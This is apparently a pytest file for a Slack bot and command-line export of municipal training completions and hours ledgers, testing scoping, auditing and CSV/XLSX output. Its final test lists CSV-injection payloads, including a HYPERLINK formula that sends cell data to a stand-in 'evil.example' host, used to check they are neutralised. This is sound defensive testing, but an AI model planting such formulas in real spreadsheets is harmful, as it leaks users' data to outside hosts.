"""The completions export and its training-hours ledger: from the command line (CSV with a BOM, XLSX readable by
openpyxl) and from Slack (`/dx export`, the `coordinator_export` button) as files in the coordinator's DM, for
their own municipality only, each export audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import openpyxl
from sqlalchemy import select

from db import membership, repo
from db.access import audit_log
from db.models import Member
from knowledge.ledger import COMPLETION_HEADERS, LEDGER_TOTAL, SHEETS, ExportRow, ledger
from tests.cli_helpers import dxbot
from tests.helpers import eventually


def at(day: str, services) -> datetime:
    return datetime.combine(date.fromisoformat(day), datetime.min.time(), services.settings.tz)


def record(services, user: str, title: str, hours: float | None, day: str) -> None:
    with services.db.scope() as session:
        repo.record_completion(
            session, "T1", user, course_id=None, title=title, hours=hours, completed_at=at(day, services)
        )


def member_of(services, user: str, name: str, role: str = "learner") -> None:
    with services.db.scope() as session:
        place = repo.municipality_named(session, name) or repo.add_municipality(session, name)
        who = repo.member(session, "T1", user)
        membership.join(session, who, place, services.now())
        repo.set_role(session, who, role)


def two_municipalities(services) -> None:
    """A coordinator and a learner in 横須賀市 and a learner in 川崎市, each with completions."""
    member_of(services, "UCOORD", "横須賀市", "coordinator")
    member_of(services, "ULEARN", "横須賀市")
    member_of(services, "UOTHER", "川崎市")
    record(services, "ULEARN", "庁内研修 情報セキュリティ", 2.0, "2026-03-31")  # fiscal 2025
    record(services, "ULEARN", "Pythonプログラミング入門", 10.0, "2026-04-01")  # fiscal 2026
    record(services, "ULEARN", "Excel 中級", 3.5, "2026-05-01")
    record(services, "UOTHER", "川崎市の秘密の研修", 4.0, "2026-05-01")


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "a BOM, so Excel reads UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_ledger_totals_hours_per_member_and_fiscal_year():
    def row(user: str, title: str, hours: float | None, day: str) -> ExportRow:
        return ExportRow("横須賀市", "T1", user, None, None, None, title, hours, date.fromisoformat(day), "slash")

    lines = ledger(
        [
            row("U1", "A", 2.0, "2026-03-31"),
            row("U1", "B", 1.5, "2026-04-01"),
            row("U1", "C", None, "2027-03-31"),
            row("U2", "B", 3.0, "2026-06-01"),
        ]
    )
    assert [(x.fiscal_year, x.user_id, x.title, x.hours) for x in lines] == [
        (2025, "U1", "A", 2.0),
        (2025, "U1", LEDGER_TOTAL, 2.0),
        (2026, "U1", "B", 1.5),
        (2026, "U1", "C", 0.0),
        (2026, "U1", LEDGER_TOTAL, 1.5),
        (2026, "U2", "B", 3.0),
        (2026, "U2", LEDGER_TOTAL, 3.0),
    ]


def test_the_command_line_writes_csv_with_a_bom_and_xlsx_with_two_sheets(services, database_url, tmp_path):
    two_municipalities(services)
    env = {"DATABASE_URL": database_url}
    result = dxbot(
        "export", "completions", "--municipality", "横須賀市", "--from", "2026-04-01",
        "--output", str(tmp_path / "yokosuka.csv"), cwd=tmp_path, env=env,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows = csv_rows((tmp_path / "yokosuka.csv").read_bytes())
    assert tuple(rows[0]) == COMPLETION_HEADERS
    assert [(r[2], r[6], r[7], r[8], r[9]) for r in rows[1:]] == [
        ("ULEARN", "Pythonプログラミング入門", "10.0", "2026-04-01", "2026"),
        ("ULEARN", "Excel 中級", "3.5", "2026-05-01", "2026"),
    ]
    ledger_rows = csv_rows((tmp_path / "yokosuka_台帳.csv").read_bytes())
    assert ledger_rows[-1][0] == "2026" and ledger_rows[-1][6:] == [LEDGER_TOTAL, "13.5"]

    workbook_path = tmp_path / "all.xlsx"
    result = dxbot(
        "export", "completions", "--municipality", "横須賀市", "--format", "xlsx", "--output", str(workbook_path),
        cwd=tmp_path, env=env,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    workbook = openpyxl.load_workbook(workbook_path)
    assert workbook.sheetnames == list(SHEETS)
    completions = list(workbook[SHEETS[0]].values)
    assert len(completions) == 4 and "川崎市の秘密の研修" not in json.dumps(completions, ensure_ascii=False)
    totals = [row for row in workbook[SHEETS[1]].values if row[6] == LEDGER_TOTAL]
    assert [(row[0], row[7]) for row in totals] == [(2025, 2.0), (2026, 13.5)]
    with services.db.scope(read_only=True) as session:
        exports = [(e.action, e.actor, e.details["format"]) for e in audit_log(session) if e.action == "export"]
    assert exports == [("export", "cli", "xlsx"), ("export", "cli", "csv")]


def test_a_coordinator_gets_their_own_municipality_in_a_dm_and_the_export_is_audited(services, slack, fake_slack):
    two_municipalities(services)
    assert slack.command("export csv", user="UCOORD").status == 200
    assert "DM" in fake_slack.reply_text()
    uploads = fake_slack.wait_for("upload", 2)
    completed = fake_slack.wait_for("files.completeUploadExternal")[0].args
    assert completed["channel_id"] == "DUCOORD"
    contents = [csv_rows(call.args["content"]) for call in uploads]
    everything = json.dumps(contents, ensure_ascii=False)
    assert "Excel 中級" in everything and "川崎市の秘密の研修" not in everything and "UOTHER" not in everything

    def audited():
        with services.db.scope(read_only=True) as session:
            entries = [e for e in audit_log(session) if e.action == "export"]
            return entries and (entries[0].actor, entries[0].details["rows"]) == ("UCOORD", 3)

    eventually(audited)


def test_a_coordinator_of_one_municipality_cannot_export_another(services, slack, fake_slack):
    two_municipalities(services)
    slack.command("export csv 川崎市", user="UCOORD")
    assert "ご自身の自治体（横須賀市）の記録だけ" in fake_slack.reply_text()
    slack.command("エクスポート", user="ULEARN")
    assert "コーディネーター向けの機能" in fake_slack.reply_text(2)
    slack.action("coordinator_export", "csv", user="UOTHER")  # a learner of 川崎市, from the App Home
    with services.db.scope(read_only=True) as session:
        assert session.scalar(select(Member.role).where(Member.slack_user_id == "UOTHER")) == "learner"
        assert [e for e in audit_log(session) if e.action == "export"] == []
    assert fake_slack.of("upload") == [] and fake_slack.of("files.completeUploadExternal") == []


def test_the_app_home_button_sends_a_workbook(services, slack, fake_slack):
    two_municipalities(services)
    assert slack.action("coordinator_export", "xlsx", user="UCOORD").status == 200
    upload = fake_slack.wait_for("upload")[0]
    workbook = openpyxl.load_workbook(io.BytesIO(upload.args["content"]))
    assert workbook.sheetnames == list(SHEETS) and len(list(workbook[SHEETS[0]].values)) == 4


def test_a_title_that_looks_like_a_formula_is_text_in_csv_and_xlsx(services, database_url, tmp_path):
    """OWASP's CSV injection: a learner's free-text title must not become a live formula or link in the
    coordinator's spreadsheet."""
    member_of(services, "ULEARN", "横須賀市")
    titles = [
        '=HYPERLINK("https://evil.example/?leak="&A2,"請求書")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        '＝ＨＹＰＥＲＬＩＮＫ("x")',
    ]
    for n, title in enumerate(titles, start=1):
        record(services, "ULEARN", title, 1.0, f"2026-05-{n:02d}")
    env = {"DATABASE_URL": database_url}
    for name, file_format in (("out.csv", "csv"), ("out.xlsx", "xlsx")):
        result = dxbot(
            "export", "completions", "--municipality", "横須賀市", "--format", file_format,
            "--output", str(tmp_path / name), cwd=tmp_path, env=env,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr

    cells = [row[6] for row in csv_rows((tmp_path / "out.csv").read_bytes())[1:]]
    assert cells == ["'" + title for title in titles]  # each one marked as text, as Excel's own "'" does

    workbook = openpyxl.load_workbook(tmp_path / "out.xlsx")
    every = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in every if cell.data_type == "f" or cell.hyperlink is not None]
    shown = {cell.value: cell for cell in workbook[SHEETS[0]]["G"][1:]}
    assert list(shown) == titles  # the text as the learner typed it, shown as text
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in shown.values())
